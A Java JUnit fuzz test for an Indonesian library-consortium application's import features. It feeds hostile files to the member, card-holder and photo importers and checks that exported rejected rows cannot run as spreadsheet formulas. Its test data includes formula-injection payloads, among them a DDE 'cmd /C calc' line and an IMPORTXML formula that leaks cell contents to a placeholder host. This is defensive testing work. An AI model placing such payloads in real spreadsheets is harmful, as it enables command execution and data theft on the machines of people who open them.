package id.jalin.app;

import static id.jalin.kernel.db.generated.Tables.CARD_HOLDER;
import static id.jalin.kernel.db.generated.Tables.LIBRARY;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import id.jalin.crossservice.domain.CardHolder;
import id.jalin.crossservice.domain.HolderKind;
import id.jalin.crossservice.domain.PhotoImportReport;
import id.jalin.kernel.access.TestActors;
import id.jalin.kernel.db.Database;
import id.jalin.kernel.db.TestDatabases;
import id.jalin.kernel.export.CsvTableWriter;
import id.jalin.kernel.export.ExportTable;
import id.jalin.kernel.export.FormulaGuard;
import id.jalin.kernel.export.XlsxTableWriter;
import id.jalin.kernel.i18n.Language;
import id.jalin.kernel.i18n.Messages;
import id.jalin.kernel.importing.ImportLimits;
import id.jalin.kernel.importing.ImportPlan;
import id.jalin.kernel.importing.ImportRefusedException;
import id.jalin.kernel.importing.ImportResult;
import id.jalin.kernel.importing.Importer;
import id.jalin.kernel.importing.RejectedRow;
import id.jalin.kernel.importing.RejectedRowsTable;
import id.jalin.kernel.importing.TestWorkbooks;
import id.jalin.kernel.task.Progress;
import id.jalin.member.domain.Libraries;
import id.jalin.member.domain.Member;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.function.IntFunction;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile files against every import (members, card holders, photos from a folder), through the real services on
 * H2: truncated, in the wrong encoding, binary garbage, a 100 MB line, 10,000 bad rows, formula-looking cells and
 * randomly mutated rows. Every file must end in a report or a worded refusal (nothing else thrown, nothing hanging),
 * refused rows must carry reasons, the database must change by exactly what the report says (one transaction), and
 * the refused rows saved as XLSX or CSV must hold no cell a spreadsheet would run.
 *
 * <p>Generation is seeded {@link Random} (decision 0020): {@code -Djalin.fuzzSeed=...} repeats a run, the seed is
 * printed. The timeout is only a guard against hangs, generous on a busy machine, not a speed test.
 */
class ImportFuzzTest {
    private static final Duration HANG_GUARD = Duration.ofSeconds(120);
    private static final Messages MESSAGES = new Messages(Language.INDONESIAN);
    private static final String HYPERLINK = "=HYPERLINK(\"http://x\",\"y\")";
    private static final List<String> FORMULAS = List.of(HYPERLINK, "@SUM(A1)", "+62 22 2500089", "-1+1",
            "=1+1", "\t=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")");
    private static final String HOME = "UNPAD";

    @TempDir
    Path folder;

    private final long seed = Long.getLong("jalin.fuzzSeed", System.nanoTime());
    private final Random random = new Random(seed);
    private Database database;
    private FeatureServices services;
    private int cases;

    @BeforeEach
    void open() {
        System.out.println("ImportFuzzTest seed " + seed);
        database = TestDatabases.h2();
        services = FeatureServices.over(database.dsl(), Clock.systemUTC(), TestActors.AS_COORDINATOR);
        services.members().save(Member.of(Libraries.library(HOME, "Perpustakaan Universitas Padjadjaran")));
    }

    @AfterEach
    void close() {
        System.out.println("ImportFuzzTest: " + cases + " files fed, seed " + seed);
        database.close();
    }

    /** One import over the one pipeline; a later import joins by adding itself here. */
    private record Subject(String name, Importer<?, ? extends ImportResult> importer, List<String> headings,
                           IntFunction<String[]> goodRow) {
    }

    private List<Subject> subjects() {
        return List.of(
                new Subject("members", services.memberImport(),
                        List.of("kode", "nama", "jenis", "kota", "iuran_tahunan", "bergabung", "nama_staf", "email_staf"),
                        i -> new String[] {"F" + i, "Perpustakaan " + i, "universitas", "Bandung", "Rp 1.250.000",
                                "12/03/2008", "Staf " + i, "staf" + i + "@x.ac.id"}),
                new Subject("holders", services.crossService().holderImport(),
                        List.of("nomor", "nama", "perpustakaan_asal", "program_studi", "jenis", "email"),
                        i -> new String[] {"1801" + i, "Mahasiswa " + i, HOME, "Ilmu Perpustakaan", "mahasiswa",
                                "m" + i + "@x.ac.id"}));
    }

    @Test
    void truncatedFilesAreReadOrRefusedInWords() throws Exception {
        for (Subject subject : subjects()) {
            byte[] csv = csv(subject, 40, StandardCharsets.UTF_8);
            byte[] xlsx = xlsx(subject, 40);
            for (int i = 0; i < 15; i++) {
                feed(subject, "truncated CSV", Arrays.copyOf(csv, random.nextInt(csv.length)));
                feed(subject, "truncated XLSX", Arrays.copyOf(xlsx, random.nextInt(xlsx.length)));
            }
        }
    }

    @Test
    void wrongEncodingsAreReadOrRefusedInWords() throws Exception {
        for (Subject subject : subjects()) {
            for (Charset charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE,
                    StandardCharsets.ISO_8859_1, Charset.forName("windows-1252"), StandardCharsets.UTF_16)) {
                Outcome outcome = feed(subject, "CSV in " + charset, csv(subject, 10, charset));
                // Latin text in UTF-16 without a byte order mark is recognised by its zero bytes and read.
                assertThat(outcome.refusal).as("%s in %s", subject.name, charset).isNull();
            }
        }
    }

    @Test
    void binaryGarbageIsRefusedInWords() throws Exception {
        for (Subject subject : subjects()) {
            for (int i = 0; i < 12; i++) {
                byte[] garbage = new byte[1 + random.nextInt(64 * 1024)];
                random.nextBytes(garbage);
                if (i % 3 == 0) {
                    garbage[0] = 'P';
                    if (garbage.length > 3) {
                        garbage[1] = 'K';
                        garbage[2] = 3;
                        garbage[3] = 4;
                    }
                }
                feed(subject, "garbage", garbage);
            }
            feed(subject, "nothing", new byte[0]);
            feed(subject, "zeros", new byte[4096]);
        }
    }

    @Test
    void aHundredMegabyteLineIsRefusedWithoutReadingItWhole() throws Exception {
        Path huge = folder.resolve("one-line.csv");
        try (OutputStream out = Files.newOutputStream(huge)) {
            byte[] chunk = new byte[1024 * 1024];
            Arrays.fill(chunk, (byte) 'x');
            out.write("kode;nama;jenis\nF1;".getBytes(StandardCharsets.US_ASCII));
            for (int i = 0; i < 100; i++) {
                out.write(chunk);
            }
        }
        for (Subject subject : subjects()) {
            Outcome outcome = feed(subject, "100 MB line", () -> Files.newInputStream(huge));
            assertThat(outcome.refusal).isNotNull();
            assertThat(outcome.refusal.reasons()).extracting(r -> r.messageKey()).containsExactly("import.error.tooLarge");
        }
    }

    @Test
    void aCellLongerThanASpreadsheetHoldsSetsItsRowAsideAndTheReportStillSaves() throws Exception {
        for (Subject subject : subjects()) {
            StringBuilder text = new StringBuilder(String.join(";", subject.headings)).append('\n');
            text.append(String.join(";", subject.goodRow.apply(1))).append('\n');
            String[] longRow = subject.goodRow.apply(2);
            longRow[1] = "=" + "y".repeat(5 * 1024 * 1024);
            text.append(String.join(";", longRow)).append('\n');
            Outcome outcome = feed(subject, "5 MB cell", text.toString().getBytes(StandardCharsets.UTF_8));
            assertThat(outcome.result.rejected()).singleElement().satisfies(row -> {
                assertThat(row.rowNumber()).isEqualTo(3);
                assertThat(row.reasons()).extracting(r -> r.messageKey()).containsExactly("import.error.cellTooLong");
                assertThat(row.rawValues().get(1)).hasSize(ImportLimits.MAX_CELL_CHARS);
            });
        }
    }

    @Test
    void tenThousandBadRowsAreSetAsideWithReasonsAndTheGoodOnesStored() throws Exception {
        for (Subject subject : subjects()) {
            StringBuilder text = new StringBuilder(String.join(";", subject.headings)).append('\n');
            for (int i = 0; i < 10_000; i++) {
                String[] row = subject.goodRow.apply(50_000 + i);
                row[1] = ""; // the name is required by both imports
                row[2] = "nonsense " + i % 50;
                text.append(String.join(";", row)).append('\n');
                if (i % 1000 == 0) {
                    text.append(String.join(";", subject.goodRow.apply(90_000 + i))).append('\n');
                }
            }
            Outcome outcome = feed(subject, "10,000 bad rows", text.toString().getBytes(StandardCharsets.UTF_8));
            assertThat(outcome.result.rejected()).hasSize(10_000);
            assertThat(outcome.stored).isEqualTo(10);
        }
    }

    @Test
    void formulaLookingCellsAreStoredAsTextAndNeverExportedAsFormulas() throws Exception {
        for (Subject subject : subjects()) {
            List<String[]> rows = new ArrayList<>();
            List<String> headings = new ArrayList<>(subject.headings);
            headings.add("=HYPERLINK(\"http://x\",\"kolom\")");
            rows.add(headings.toArray(String[]::new));
            for (int i = 0; i < FORMULAS.size(); i++) {
                String[] good = with(subject.goodRow.apply(70_000 + i), FORMULAS.get(i));
                good[1] = FORMULAS.get(i);
                rows.add(good);
                String[] bad = with(subject.goodRow.apply(71_000 + i), FORMULAS.get(i));
                bad[1] = FORMULAS.get(i);
                bad[2] = FORMULAS.get(i); // no such kind: the row is refused and written back
                rows.add(bad);
            }
            Outcome fromCsv = feed(subject, "formulas CSV", csvOf(rows));
            Outcome fromXlsx = feed(subject, "formulas XLSX", TestWorkbooks.bytes(rows.stream()
                    .map(row -> (Object[]) row).toArray(Object[][]::new)));
            assertThat(fromCsv.result.rejected()).hasSize(FORMULAS.size());
            assertThat(fromXlsx.result.rejected()).hasSize(FORMULAS.size());
        }
        assertThat(services.members().memberByCode("F70000")).get()
                .satisfies(m -> assertThat(m.library().name()).isEqualTo(HYPERLINK));
        // The register, exported as the member screen exports it, keeps the stored formulas as text.
        var register = new id.jalin.member.ui.MemberListViewModel(services.members(),
                new id.jalin.kernel.task.CurrentThreadTaskExecutor(), MESSAGES);
        register.reload();
        assertThat(register.tableAsShown().rows()).hasSizeGreaterThan(FORMULAS.size());
        noCellRuns(register.tableAsShown());
    }

    @Test
    void randomlyMutatedFilesAreReadOrRefusedInWords() throws Exception {
        String noise = "\";,\t\r\n\u0000\u00e9\ufeff=@+-'\\\u2028";
        for (Subject subject : subjects()) {
            String clean = new String(csv(subject, 30, StandardCharsets.UTF_8), StandardCharsets.UTF_8);
            for (int i = 0; i < 40; i++) {
                StringBuilder mutated = new StringBuilder(clean);
                for (int m = 1 + random.nextInt(12); m > 0; m--) {
                    int at = random.nextInt(mutated.length());
                    switch (random.nextInt(3)) {
                        case 0 -> mutated.insert(at, noise.charAt(random.nextInt(noise.length())));
                        case 1 -> mutated.deleteCharAt(at);
                        default -> mutated.setCharAt(at, noise.charAt(random.nextInt(noise.length())));
                    }
                }
                feed(subject, "mutated", mutated.toString().getBytes(StandardCharsets.UTF_8));
            }
        }
    }

    @Test
    void hostilePhotoFoldersAreSetAsideFileByFile() throws Exception {
        long home = services.members().memberByCode(HOME).orElseThrow().library().id();
        Path photos = Files.createDirectory(folder.resolve("photos"));
        List<String> numbers = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            numbers.add("2301" + i);
            services.crossService().holders().save(CardHolder.newHolder(home, "2301" + i, "Foto " + i, "",
                    HolderKind.STUDENT, "", ""));
        }
        byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F'};
        Files.write(photos.resolve(numbers.get(0) + ".jpg"), jpeg);
        try (RandomAccessFile sparse = new RandomAccessFile(photos.resolve(numbers.get(1) + ".jpg").toFile(), "rw")) {
            sparse.setLength(100L * 1024 * 1024); // 100 MB that must not be read into memory
            sparse.write(jpeg);
        }
        byte[] garbage = new byte[30_000];
        random.nextBytes(garbage);
        Files.write(photos.resolve(numbers.get(2) + ".jpg"), garbage);
        Files.write(photos.resolve(numbers.get(3) + ".png"), new byte[0]);
        // Cut inside the JPEG mark. (A file with the whole mark passes the type check by design: printing draws the
        // holder's initials for a photo that does not decode.)
        Files.write(photos.resolve(numbers.get(4) + ".jpg"), Arrays.copyOf(jpeg, 2));
        Files.writeString(photos.resolve(numbers.get(5) + ".jpg"), HYPERLINK);
        Files.createDirectory(photos.resolve(numbers.get(6) + ".jpg"));
        Files.write(photos.resolve("=HYPERLINK(x).jpg"), jpeg);
        Files.write(photos.resolve(".hidden.jpg"), jpeg);
        cases++;

        PhotoImportReport report = assertTimeoutPreemptively(HANG_GUARD,
                () -> services.crossService().photoImport().importFrom(photos, home, Progress.NONE));

        assertThat(report.matched()).containsExactly(numbers.get(0) + ".jpg");
        assertThat(report.unmatched()).containsExactly("=HYPERLINK(x).jpg");
        assertThat(report.setAside()).extracting(PhotoImportReport.SetAside::fileName).containsExactly(
                numbers.get(1) + ".jpg", numbers.get(2) + ".jpg", numbers.get(3) + ".png", numbers.get(4) + ".jpg",
                numbers.get(5) + ".jpg");
        assertThat(report.setAside()).allSatisfy(s -> assertThat(s.reasons()).isNotEmpty()
                .allSatisfy(r -> assertThat(MESSAGES.has(r.messageKey())).isTrue()));
        assertThat(database.dsl().fetchCount(CARD_HOLDER, CARD_HOLDER.PHOTO_TYPE.isNotNull())).isEqualTo(1);
    }

    // --- feeding a file and judging what came back ---

    /** What one file made: the import's result or its refusal, and how many rows the database gained. */
    private record Outcome(ImportResult result, ImportRefusedException refusal, int stored) {
    }

    private Outcome feed(Subject subject, String what, byte[] file) throws Exception {
        return feed(subject, what, () -> new ByteArrayInputStream(file));
    }

    private Outcome feed(Subject subject, String what, Callable<InputStream> file) throws Exception {
        cases++;
        int before = rows(subject);
        int libraryRowsBefore = database.dsl().fetchCount(LIBRARY);
        long started = System.nanoTime();
        Outcome outcome = assertTimeoutPreemptively(HANG_GUARD, () -> {
            try (InputStream in = file.call()) {
                return importOnce(subject, in, what);
            } catch (ImportRefusedException refused) {
                return new Outcome(null, refused, 0);
            } catch (RuntimeException | IOException crash) {
                throw new AssertionError(subject.name + " crashed on " + what + " (seed " + seed + ")", crash);
            }
        });
        System.out.printf("%s, %s: %s in %d ms%n", subject.name, what, outcome.refusal != null ? "refused"
                : outcome.result.rejected().size() + " rows set aside", (System.nanoTime() - started) / 1_000_000);
        int gained = rows(subject) - before;
        if (outcome.refusal != null) {
            assertThat(outcome.refusal.reasons()).as(what).isNotEmpty()
                    .allSatisfy(r -> assertThat(MESSAGES.has(r.messageKey())).as(r.messageKey()).isTrue());
            assertThat(gained).as("%s refused but stored %d rows", what, gained).isZero();
            assertThat(database.dsl().fetchCount(LIBRARY)).isEqualTo(libraryRowsBefore);
            return outcome;
        }
        assertThat(outcome.result.rejected()).as(what).allSatisfy(row -> assertThat(row.reasons()).isNotEmpty()
                .allSatisfy(r -> assertThat(MESSAGES.has(r.messageKey())).as(r.messageKey()).isTrue()));
        // Nothing half: the database gained exactly the records the report says it created.
        assertThat(gained).as("%s: rows gained against the report", what).isEqualTo(created(outcome.result));
        return new Outcome(outcome.result, null, gained);
    }

    @SuppressWarnings({"unchecked", "rawtypes"})
    private Outcome importOnce(Subject subject, InputStream in, String what) throws Exception {
        Importer importer = subject.importer;
        long started = System.nanoTime();
        ImportPlan<?> plan = importer.read(in, Progress.NONE);
        long read = System.nanoTime();
        ImportResult result = (ImportResult) importer.apply(plan, Progress.NONE);
        long applied = System.nanoTime();
        if (!result.rejected().isEmpty()) {
            // A sample of a long list: the writers treat every row alike, and 10,000 rows only cost time here.
            exportedRejectsRunNothing(plan.headings(), result.rejected().subList(0, Math.min(500, result.rejected().size())));
        }
        System.out.printf("  %s: read %d ms, stored %d ms, refused rows saved and checked %d ms%n", what,
                (read - started) / 1_000_000, (applied - read) / 1_000_000, (System.nanoTime() - applied) / 1_000_000);
        return new Outcome(result, null, 0);
    }

    private int rows(Subject subject) {
        return subject.name.equals("members") ? database.dsl().fetchCount(LIBRARY)
                : database.dsl().fetchCount(CARD_HOLDER);
    }

    private static int created(ImportResult result) {
        if (result instanceof id.jalin.member.domain.csv.ImportReport members) {
            return members.created();
        }
        return ((id.jalin.crossservice.domain.csv.HolderImportReport) result).created();
    }

    /** The refused rows saved as the report dialog saves them, read back as a spreadsheet would read them. */
    private static void exportedRejectsRunNothing(List<String> headings, List<RejectedRow> rejected) throws IOException {
        ExportTable table = new RejectedRowsTable(MESSAGES.get("import.report.row"), MESSAGES.get("import.report.reason"),
                reason -> MESSAGES.get(reason.messageKey(), reason.args().toArray()))
                .table(MESSAGES.get("import.report.fileName"), headings, rejected);
        noCellRuns(table);
    }

    /** The table saved as XLSX and as CSV, read back as a spreadsheet would: no formula, formula-like text guarded. */
    private static void noCellRuns(ExportTable table) throws IOException {
        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        new XlsxTableWriter().write(table, xlsx);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            for (Row row : workbook.getSheetAt(0)) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && FormulaGuard.couldRun(cell.getStringCellValue())) {
                        assertThat(cell.getCellStyle().getQuotePrefixed())
                                .as("quote prefix on %s", cell.getStringCellValue()).isTrue();
                    }
                }
            }
        }
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        new CsvTableWriter().write(table, csv);
        String text = csv.toString(StandardCharsets.UTF_8).substring(1);
        for (CSVRecord record : CSVFormat.DEFAULT.builder().setDelimiter(';').get().parse(new java.io.StringReader(text))) {
            for (String value : record) {
                assertThat(FormulaGuard.couldRun(value)).as("CSV cell %s", value).isFalse();
            }
        }
    }

    // --- files ---

    private byte[] csv(Subject subject, int count, Charset charset) {
        List<String[]> rows = new ArrayList<>();
        rows.add(subject.headings.toArray(String[]::new));
        int first = random.nextInt(1000) * 100;
        for (int i = 0; i < count; i++) {
            String[] row = subject.goodRow.apply(first + i);
            row[1] = row[1] + " \u00e9\u00f1"; // letters outside ASCII, so the encoding matters
            rows.add(row);
        }
        return csvOf(rows).length == 0 ? new byte[0]
                : new String(csvOf(rows), StandardCharsets.UTF_8).getBytes(charset);
    }

    private static byte[] csvOf(List<String[]> rows) {
        StringBuilder text = new StringBuilder();
        for (String[] row : rows) {
            List<String> cells = new ArrayList<>();
            for (String cell : row) {
                cells.add("\"" + cell.replace("\"", "\"\"") + "\"");
            }
            text.append(String.join(";", cells)).append("\r\n");
        }
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private byte[] xlsx(Subject subject, int count) {
        List<Object[]> rows = new ArrayList<>();
        rows.add(subject.headings.toArray());
        int first = random.nextInt(1000) * 100;
        for (int i = 0; i < count; i++) {
            rows.add(subject.goodRow.apply(first + i));
        }
        return TestWorkbooks.bytes(rows.toArray(Object[][]::new));
    }

    /** The row with {@code text} in its last, free-text column. */
    private static String[] with(String[] row, String text) {
        String[] copy = Arrays.copyOf(row, row.length + 1);
        copy[row.length] = text;
        return copy;
    }
}
